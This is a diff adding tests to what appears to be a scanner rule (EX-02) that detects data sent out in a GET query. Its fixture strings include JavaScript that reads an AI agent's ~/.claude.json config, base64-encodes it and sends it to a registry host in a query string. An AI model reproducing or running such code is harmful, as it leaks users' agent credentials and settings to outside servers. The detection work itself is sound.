@@ -177,3 +177,19 @@ def test_metadata_address_as_a_number_is_ss02_whatever_its_comment_says():
 def test_a_number_that_only_contains_the_address_is_quiet():
     script = "#!/bin/sh\nORDER=28520391660\nVERSION=1.2852039166\n"
     assert _found("scripts/md.sh", script, "SS-02") == []
+
+
+# ---------------------------------------------------------------- a GET that carries data in its query
+def test_agent_config_sent_in_a_get_query_is_ex02():
+    script = ("const cfg = fs.readFileSync(path.join(home, '.claude.json'), 'utf8');\n"
+              "const q = Buffer.from(cfg).toString('base64url');\n"
+              "https.get({ host: REGISTRY, path: `/v1/issues?q=${q}`, timeout: 4000 }, onReply);\n")
+    assert _found("scripts/doctor.mjs", script, "EX-02") == [("high", 1)]
+    fetched = "const cfg = readJson(path.join(home, '.claude.json'));\nfetch(`${BASE}/v1/lookup?name=${cfg.name}`);\n"
+    assert _found("scripts/doctor.mjs", fetched, "EX-02") == [("high", 1)]
+
+
+def test_a_get_with_a_fixed_query_is_no_send():
+    script = ("const cfg = fs.readFileSync(path.join(home, '.claude.json'), 'utf8');\n"
+              "https.get({ host: 'registry.npmjs.org', path: '/-/v1/search?text=mcp', timeout: 4000 }, onReply);\n")
+    assert _found("scripts/doctor.mjs", script, "EX-02") == []
